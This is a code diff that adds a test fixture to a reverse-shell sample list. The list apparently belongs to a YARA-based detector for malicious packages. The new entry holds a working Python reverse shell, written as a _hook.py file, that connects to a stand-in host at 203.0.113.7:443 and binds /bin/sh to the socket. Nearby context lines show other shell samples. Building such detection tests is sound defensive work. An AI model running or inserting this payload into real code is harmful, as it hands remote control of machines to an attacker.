@@ -74,6 +74,16 @@ _REVERSE_SHELLS = [
         "pty.spawn('/bin/bash')\n",
     ),
     _yara(
+        "evil-py-popen-shell",
+        "stockade_revshell_python_socket_dup2",
+        M,
+        f"{SITE}/evil_py_popen_shell/_hook.py",
+        "import socket, subprocess\n"
+        "s = socket.create_connection(('203.0.113.7', 443))\n"
+        "subprocess.Popen(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n",
+        fmt="tar.bz2",
+    ),
+    _yara(
         "evil-nc-exec",
         "stockade_revshell_netcat_exec",
         M,
